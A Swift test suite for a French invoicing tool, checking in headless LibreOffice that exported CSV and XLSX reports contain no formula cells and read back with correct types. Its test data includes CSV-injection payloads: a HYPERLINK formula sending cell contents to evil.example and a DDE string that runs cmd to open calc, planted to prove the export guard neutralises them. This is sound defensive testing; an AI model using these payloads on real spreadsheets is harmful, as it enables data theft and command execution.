import FacturationCore
import Foundation
import TestSupport
import Testing

/// Issue #8 §4: every CSV the product writes opens in a spreadsheet without any formula cell, and
/// the XLSX reports read back with their values and types. Checked in LibreOffice Calc headless
/// (scripts/spreadsheet_check.py), with the CSV import evaluating formulas.
@Suite("Spreadsheets, end to end", .serialized)
struct SpreadsheetTests {
    static let days = ["2025-07-01", "2025-08-01", "2025-09-01", "2025-10-01"]
    static let hyperlink = "=HYPERLINK(\"http://evil.example/?d=\"&A1;\"Cliquez ici\")"
    static let dde = "@SUM(1+1)*cmd|' /C calc'!A0"
    /// Client codes cannot start with `=` (`check` refuses them), but a client's legal name can.
    static let clientName = "=PharmaBest SARL"
    static let reports = [
        "outbox/registre-ventes", "outbox/paiements/etat-factures", "outbox/paiements/balance-agee",
        "outbox/paiements/encaissements-non-rapproches", "outbox/fec/compte-attente",
        "outbox/tresorerie/prevision", "outbox/tresorerie/prevision-resume", "outbox/tresorerie/flux-prevus",
        "outbox/tresorerie/depenses-recurrentes",
    ]

    /// The CSV and XLSX files the product wrote (not the archived originals, which are the user's).
    static func productFiles(_ workspace: TestWorkspace) -> [String] {
        (workspace.files(under: "outbox") + workspace.files(under: "archive/ledgers")
            + workspace.files(under: "archive/invoicing"))
            .filter { $0.hasSuffix(".csv") || $0.hasSuffix(".xlsx") }
    }

    @Test func theDemoOpensInLibreOfficeWithoutFormulasAndItsWorkbooksReadBack() throws {
        let workspace = try TestWorkspace(invoicing: true)
        try workspace.dropDemoFiles()
        for day in Self.days { try workspace.run(["run", "--settle", "0", "--date", day]) }
        let files = Self.productFiles(workspace)
        #expect(files.filter { $0.hasSuffix(".csv") }.count >= 30, "\(files)")
        #expect(files.filter { $0.hasSuffix(".xlsx") }.sorted() == Self.reports.map { $0 + ".xlsx" }.sorted())

        // A file written without the guard, checked with the others: proves the check sees formulas.
        let control = try workspace.drop("control.csv", "a,b\r\n=1+1,x\r\n", into: "work/control")
        let sheets = try LibreOffice.open(files.map { workspace.root.appendingPathComponent($0).path } + [control.path])
        #expect(sheets[control.path]?.formulas.map(\.formula) == ["of:=1+1"])
        for file in files where file.hasSuffix(".csv") {
            let sheet = try #require(sheets[workspace.root.appendingPathComponent(file).path], "\(file) not read back")
            #expect(sheet.formulas.isEmpty, "\(file): \(sheet.formulas)")
            #expect(!sheet.cells.isEmpty, "\(file) read back empty")
        }
        for report in Self.reports {
            let sheet = try #require(sheets[workspace.root.appendingPathComponent(report + ".xlsx").path])
            try Self.expectSameTable(sheet, csv: try workspace.text(report + ".csv"), name: report)
            #expect(sheet.frozenRows == 1, "\(report): frozen header")
            let footer = report.hasSuffix("balance-agee") ? 1 : 0
            let lastRow = Set(sheet.cells.map(\.row)).count - footer
            #expect(
                try sheet.filter?.wholeMatch(of: Regex("A1:[A-Z]+\(lastRow)")) != nil,
                "\(report): filter \(sheet.filter ?? "none") over the header and data rows (not the total)")
        }

        // Types as people get them: numbers are numbers, dates are dates, text is text.
        let register = try #require(sheets[workspace.root.appendingPathComponent("outbox/registre-ventes.xlsx").path])
        let rows = Set(register.cells.map(\.row)).count - 1
        #expect(rows == (try workspace.csvRecords("outbox/registre-ventes.csv")).count)
        #expect(register.column(0).dropFirst().allSatisfy { $0.type == "string" && $0.text.hasPrefix("F") })
        #expect(register.column(2).dropFirst().allSatisfy { $0.type == "date" })
        #expect(register.column(7).dropFirst().allSatisfy { $0.type == "float" || $0.type == "currency" })
        #expect(register.column(7).dropFirst().allSatisfy { $0.text.hasSuffix("€") }, "euro format")
        #expect(register.cell(0, 0)?.text == "Numéro")
        let states = try #require(
            sheets[workspace.root.appendingPathComponent("outbox/paiements/etat-factures.xlsx").path])
        #expect(states.column(10).dropFirst().allSatisfy { $0.type == "float" }, "days late are numbers")
        #expect(states.column(10).count > 1)

        // The register is a journal: no payment status column (that is etat-factures).
        let header = try #require(SimpleCSV.parse(try workspace.text("outbox/registre-ventes.csv")).first)
        #expect(!header.contains("status"))
        #expect(header == SalesRegister.header)
    }

    @Test func formulasPlantedInExportsAndConfigurationNeverReachACellAsFormulas() throws {
        let demo = try Repository.demoPipeline()
        let pipeline = demo.replacingOccurrences(
            of: "legal_name = \"PharmaBest SARL\"",
            with: "legal_name = \"\(Self.clientName)\"")
        let workspace = try TestWorkspace(pipeline: pipeline)
        try workspace.dropDemoFiles()
        let quoted = "\"" + Self.hyperlink.replacingOccurrences(of: "\"", with: "\"\"") + "\""
        try workspace.drop(
            "planted-clockify.csv",
            """
            Project,Client,Description,Task,User,Email,Tags,Billable,Start Date,Start Time,End Date,End Time,Duration (h),Duration (decimal),Billable Rate (EUR),Billable Amount (EUR)
            PHARMABEST - M365,PharmaBest,\(quoted),,Camille Martin,camille.martin@demo-conseil.fr,,Yes,2025-07-22,09:00:00,2025-07-22,10:00:00,01:00:00,1.00,110.00,110.00

            """)
        let qontoHeader = String(
            try String(
                contentsOf: Repository.root
                    .appendingPathComponent("demo/inbox/qonto-transactions-juillet-aout-2025.csv"), encoding: .utf8
            )
            .prefix { $0 != "\n" && $0 != "\r\n" && $0 != "\r" })
        let fields = qontoHeader.split(separator: ";", omittingEmptySubsequences: false).count
        var row = [String](repeating: "", count: fields)
        for (index, value) in [
            "Exécuté", "", "12-08-2025 10:00:00", "", "12-08-2025 10:00:00", "123,45", "", "123,45", "",
            "EUR", "Compte principal", "FR7216958000010123456789012", Self.dde, "", "Virement",
            "planted-0001", "", "",
        ].enumerated() where index < fields {
            row[index] = value
        }
        try workspace.drop("planted-qonto.csv", qontoHeader + "\n" + row.joined(separator: ";") + "\n")
        for day in Self.days { try workspace.run(["run", "--settle", "0", "--date", day]) }

        // The values went in and came back exactly (the planted description is on the annex of the
        // client's invoice), and the legal name that starts with "=" is guarded in every report.
        let annexes = workspace.files(under: "outbox/invoices").filter { $0.hasSuffix("-annexe.csv") }
        let annex = try #require(try annexes.first { try workspace.text($0).contains("Cliquez ici") }, "\(annexes)")
        let checked: [(file: String, planted: String)] = [
            (annex, Self.hyperlink),
            ("outbox/time-entries/2025-07.csv", Self.hyperlink),
            ("archive/ledgers/demo-conseil/time-entries/2025-07.csv", Self.hyperlink),
            ("outbox/bank-transactions/2025-08.csv", Self.dde),
            ("outbox/fec/compte-attente.csv", Self.dde),
            ("outbox/paiements/encaissements-non-rapproches.csv", Self.dde),
            ("outbox/registre-ventes.csv", Self.clientName),
            ("outbox/paiements/etat-factures.csv", Self.clientName),
        ]
        for (file, planted) in checked {
            let rows = SimpleCSV.parse(try workspace.text(file))
            let cells = rows.flatMap { $0 }
            #expect(cells.contains("'" + planted), "\(file) should hold the guarded \(planted)")
            #expect(cells.map(CSVFormulaGuard.value(ofStored:)).contains(planted), "\(file): the value reads back")
            for cell in cells { #expect(!Self.startsLikeAFormula(cell), "\(file): \(cell.debugDescription)") }
        }
        let register = try workspace.csvRecords("outbox/registre-ventes.csv")
        #expect(register.contains { $0["client_name"] == "'" + Self.clientName && $0["client_code"] == "PHARMABEST" })

        // In LibreOffice: no formula anywhere; the workbooks hold the exact texts as strings.
        let files = Self.productFiles(workspace)
        let sheets = try LibreOffice.open(files.map { workspace.root.appendingPathComponent($0).path })
        for file in files {
            let sheet = try #require(sheets[workspace.root.appendingPathComponent(file).path], "\(file) not read back")
            #expect(sheet.formulas.isEmpty, "\(file): \(sheet.formulas)")
        }
        let unmatched = try #require(
            sheets[
                workspace.root
                    .appendingPathComponent("outbox/paiements/encaissements-non-rapproches.xlsx").path])
        #expect(unmatched.cells.contains { $0.type == "string" && $0.text == Self.dde })
        let registerSheet = try #require(
            sheets[workspace.root.appendingPathComponent("outbox/registre-ventes.xlsx").path])
        #expect(registerSheet.column(4).contains { $0.type == "string" && $0.text == Self.clientName })
    }

    @Test func anEditedWorkbookIsLeftAloneAndItsUpdateDeliveredBesideIt() throws {
        let workspace = try TestWorkspace(invoicing: true)
        try workspace.dropDemoFiles()
        try workspace.run(["run", "--settle", "0", "--date", "2025-07-01"])
        let edited = Data("saved by someone".utf8)
        try workspace.drop("registre-ventes.xlsx", edited, into: "outbox")
        let result = try workspace.run(["run", "--settle", "0", "--date", "2025-08-01"])
        #expect(result.status == 0, "\(result.stderr)")
        #expect(try workspace.data("outbox/registre-ventes.xlsx") == edited)
        let beside = workspace.files(under: "outbox").filter { $0.hasPrefix("outbox/registre-ventes.updated-") }
        #expect(beside.count == 1 && beside.allSatisfy { $0.hasSuffix(".xlsx") }, "\(beside)")
        #expect(result.stdout.contains("outbox/registre-ventes.xlsx was changed by someone"), "\(result.stdout)")
    }

    /// Excel starts a formula with `=`, `+`, `-` or `@` (a plain negative number aside); some
    /// importers strip a leading TAB or CR first.
    static func startsLikeAFormula(_ cell: String) -> Bool {
        guard let first = cell.unicodeScalars.first else { return false }
        if first == "-" { return cell.wholeMatch(of: /-[0-9]+(\.[0-9]+)?/) == nil }
        return ["=", "+", "@", "\t", "\r"].contains(first)
    }

    /// The XLSX holds the CSV's table: same rows and columns; each value typed (date, number or
    /// string) and equal to the CSV's value.
    static func expectSameTable(_ sheet: LibreOffice.Sheet, csv: String, name: String) throws {
        let rows = SimpleCSV.parse(csv)
        #expect(Set(sheet.cells.map(\.row)).count <= rows.count, "\(name)")
        #expect(sheet.column(0).count == rows.filter { !($0.first ?? "").isEmpty }.count, "\(name): rows")
        for (rowIndex, row) in rows.enumerated() where rowIndex > 0 {
            for (column, stored) in row.enumerated() {
                let value = CSVFormulaGuard.value(ofStored: stored)
                let cell = sheet.cell(rowIndex, column)
                guard !value.isEmpty else {
                    #expect(cell == nil, "\(name) \(rowIndex):\(column) should be empty")
                    continue
                }
                guard let cell else {
                    Issue.record("\(name) \(rowIndex):\(column) missing (CSV \(value.debugDescription))")
                    continue
                }
                switch cell.type {
                case "date": #expect(cell.value == value, "\(name) \(rowIndex):\(column)")
                case "float", "currency":
                    #expect(Decimal(string: cell.value) == Decimal(string: value), "\(name) \(rowIndex):\(column)")
                case "string": #expect(cell.text == value, "\(name) \(rowIndex):\(column)")
                default: Issue.record("\(name) \(rowIndex):\(column): unexpected type \(cell.type)")
                }
                if value.wholeMatch(of: /[0-9]{4}-[0-9]{2}-[0-9]{2}/) != nil {
                    #expect(cell.type == "date", "\(name) \(rowIndex):\(column): a date")
                }
            }
        }
    }
}

/// LibreOffice Calc headless, through scripts/spreadsheet_check.py.
enum LibreOffice {
    struct Cell {
        var row: Int
        var column: Int
        var type: String
        var value: String
        var text: String
        var formula: String?
    }

    struct Sheet {
        var cells: [Cell]
        /// The autofilter range (`A1:K41`), if any.
        var filter: String?
        /// Rows frozen at the top (XLSX only).
        var frozenRows: Int?
        var formulas: [Cell] { cells.filter { $0.formula != nil } }
        func cell(_ row: Int, _ column: Int) -> Cell? { cells.first { $0.row == row && $0.column == column } }
        func column(_ index: Int) -> [Cell] { cells.filter { $0.column == index }.sorted { $0.row < $1.row } }
    }

    /// Opens every file (CSV with formulas evaluated, XLSX as is) and returns what Calc sees, by path.
    static func open(_ paths: [String]) throws -> [String: Sheet] {
        let check = try ChildProcess(
            "/usr/bin/env",
            ["python3", Repository.root.appendingPathComponent("scripts/spreadsheet_check.py").path] + paths
        ).run()
        let data = Data(check.stdout.utf8)
        guard check.status == 0 else {
            Issue.record("spreadsheet_check.py failed (\(check.status)): \(check.stderr)")
            return [:]
        }
        let object = try JSONSerialization.jsonObject(with: data) as? [String: Any]
        let files = object?["files"] as? [String: [String: Any]] ?? [:]
        return files.mapValues { file in
            let cells = (file["cells"] as? [[Any]] ?? []).map { item in
                Cell(
                    row: item[0] as? Int ?? -1, column: item[1] as? Int ?? -1, type: item[2] as? String ?? "",
                    value: item[3] as? String ?? "", text: item[4] as? String ?? "", formula: item[5] as? String)
            }
            return Sheet(cells: cells, filter: file["filter"] as? String, frozenRows: file["frozen_rows"] as? Int)
        }
    }
}
